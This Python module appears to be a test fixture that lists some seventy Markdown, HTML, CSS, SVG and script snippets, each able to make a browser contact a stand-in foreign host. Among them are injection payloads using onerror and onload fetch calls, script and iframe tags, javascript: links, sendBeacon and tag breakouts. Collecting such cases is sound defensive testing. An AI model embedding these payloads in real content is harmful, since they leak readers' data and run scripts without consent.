"""Ways in which a text may have a browser ask a foreign host for something. `{x}` stands for the address that must never be asked."""

from __future__ import annotations

WAYS = (
    "![bild]({x}.png)",
    '![bild]({x}.png "titel")',
    "![bild](<{x}.png>)",
    "![bild][r]\n\n[r]: {x}.png",
    "[![bild]({x}.png)]({x})",
    "![a ![b]({x}.png) c]({x}.jpg)",
    r"\\![bild]({x}.png)",
    "![bild]({p}.png)",
    "[länk]({x})",
    "<{x}>",
    "{x}",
    "www.utanfor.example/x",
    "| a |\n| --- |\n| ![b]({x}.png) |",
    "# ![rubrik]({x}.png)",
    "- ![punkt]({x}.png)",
    "> ![citat]({x}.png)",
    "[^1]\n\n[^1]: ![not]({x}.png)",
    "::img{src={x}}",
    ":img[x]{src={x} srcset={x}}",
    ':::kalla{style="background:url({x})"}\nx\n:::',
    ":link[x]{rel=stylesheet href={x}}",
    "$$\\includegraphics{{x}}$$",
    "```html\n<img src={x}>\n```",
    "&lt;img src={x}&gt;",
    "&#60;img src={x}&#62;",
    "--> <img src={x}> <!--",
    '"><img src={x}>',
    "'><img src={x}>",
    "</title></textarea></style></script><img src={x}>",
    "<img src={x}>",
    "<img/src={x} onerror=x>",
    "<img src={p}>",
    "<img srcset='{x} 2x, {x}b 1x'>",
    "<picture><source srcset={x}><img></picture>",
    "<iframe src={x}></iframe>",
    "<iframe srcdoc='<img src={x}>'></iframe>",
    "<object data={x}></object>",
    "<embed src={x}>",
    "<video poster={x} autoplay><source src={x}b></video>",
    "<audio src={x} autoplay></audio>",
    "<input type=image src={x}>",
    "<script src={x}></script>",
    "<script type=module>import '{x}'</script>",
    "<script>fetch('{x}')</script>",
    "<script>new WebSocket('ws:{p}')</script>",
    "<script>navigator.sendBeacon('{x}')</script>",
    '<script type=speculationrules>{{"prefetch": [{{"source": "list", "urls": ["{x}"]}}]}}</script>',
    "<img src=data:, onerror=\"fetch('{x}')\">",
    "<svg onload=\"fetch('{x}')\"></svg>",
    "<svg><image href={x} /></svg>",
    "<svg><use href='{x}#a'/></svg>",
    "<svg><filter id=f><feImage href={x} /></filter><rect width=9 height=9 filter=url(#f) /></svg>",
    "![s](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%3E%3Cimage%20href='{x}'/%3E%3C/svg%3E)",
    "[js](javascript:fetch('{x}'))",
    "<link rel=stylesheet href={x}>",
    "<link rel=prefetch href={x}>",
    "<link rel=preload as=image href={x}>",
    "<link rel=preconnect href={x}>",
    "<link rel=dns-prefetch href={p}>",
    "<link rel=icon href={x}>",
    "<link rel=manifest href={x}>",
    "<meta http-equiv=refresh content='0;url={x}'>",
    "<base href={x}>",
    "<style>@import url({x});</style>",
    "<style>@font-face{{font-family:f;src:url({x})}} *{{font-family:f}}</style>",
    "<style>body{{background:url({x})}}</style>",
    '<p style="background-image:url({x})">x</p>',
    "<body background={x}>",
    "<table background={x}><tr><td>x</td></tr></table>",
    "<form action={x} method=get><input name=a autofocus onfocus=form.submit()></form>",
    "<a href=/om ping={x}>x</a>",
)
"""Markdown first, then what breaks out of it, then HTML, CSS and scripts."""


def ways(port: int) -> list[str]:
    """The ways, each to an address of its own on the foreign host."""
    made = []
    for number, way in enumerate(WAYS):
        path = f"//utanfor.example:{port}/{number}"
        made.append(way.replace("{{", "{").replace("}}", "}") if "{{" in way and "<" in way else way)
        made[-1] = made[-1].replace("{x}", f"http:{path}").replace("{p}", path)
    return made
